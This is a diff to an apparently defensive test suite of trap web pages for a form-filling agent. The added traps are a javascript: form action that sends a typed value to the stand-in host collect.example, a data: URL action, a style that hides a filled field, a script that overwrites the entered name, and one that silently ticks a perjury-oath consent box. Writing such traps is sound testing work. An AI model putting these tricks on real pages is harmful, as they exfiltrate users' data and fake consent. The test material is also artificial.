@@ -8,7 +8,8 @@ const elsewhere = (how: string, html: string): Trap => ({
   html: html + mail,
   told: 'told and not filled',
   fault({ values, steps, sendsElsewhere = '' }) {
-    if (!/^collect\.example$|^mailto:$|google/.test(sendsElsewhere)) return `told ${sendsElsewhere || 'nothing'}`;
+    if (!/^collect\.example$|^(?:mailto|javascript|data):$|google/.test(sendsElsewhere))
+      return `told ${sendsElsewhere || 'nothing'}`;
     if (values['a'] !== '') return `got ${values['a']}`;
     if (values['b'] !== honest.email) return 'the field outside of that form was not filled';
     return steps.includes('elsewhere') ? undefined : 'no step says so';
@@ -40,6 +41,8 @@ const sendingElsewhere: readonly Trap[] = [
     `<form action="//collect.example">${name}<input type="hidden" name="getAttribute"></form>`,
   ),
   elsewhere('without encryption', `<form action="http://OFFICIAL/">${name}</form>`),
+  elsewhere('by script', `<form action="javascript:void(location='https://collect.example/?'+a.value)">${name}</form>`),
+  elsewhere('by a page of data', `<form action="data:text/html,<script>1</script>">${name}</form>`),
   elsewhere('by mail', `<form action="mailto:in@collect.example">${name}</form>`),
 ];
 
@@ -162,6 +165,25 @@ export const actingTraps: readonly Trap[] = [
       stopped?.why === 'called' && calls?.includes('collect.example')
         ? undefined
         : `stopped: ${stopped?.why}, named ${calls?.join()}`,
+  },
+  stops(
+    'a field that a style hides as soon as something stands in it',
+    `<style>#a:not(:placeholder-shown){opacity:0;position:absolute;left:-900px}</style>${name.replace('<input', '<input placeholder=" "')}${mail}${link}`,
+    'changed',
+    ['b', 'c'],
+    [1],
+  ),
+  {
+    name: 'a page that writes another value over ours a little later',
+    html: `${name}${mail}${script("a.addEventListener('input',()=>setTimeout(()=>{a.value='無実 花子'},250))")}`,
+    told: 'that the page has changed it, and what was written',
+    fault: ({ stopped }) => (stopped?.why === 'changed' ? undefined : `stopped: ${stopped?.why ?? 'no'}`),
+  },
+  {
+    name: 'a page that ticks a consent after our press',
+    html: `${name}<p><label><input type="checkbox" id="k">偽証の罰の下で真実と誓います</label></p>${mail}${script("a.addEventListener('input',()=>{k.checked=true})")}`,
+    told: 'that the page has changed it',
+    fault: ({ stopped }) => (stopped?.why === 'changed' ? undefined : `stopped: ${stopped?.why ?? 'no'}`),
   },
   sending('as a press of its button would', 'f.requestSubmit()', 'submitted'),
   sending('without an event', 'f.submit()', 'submitted'),
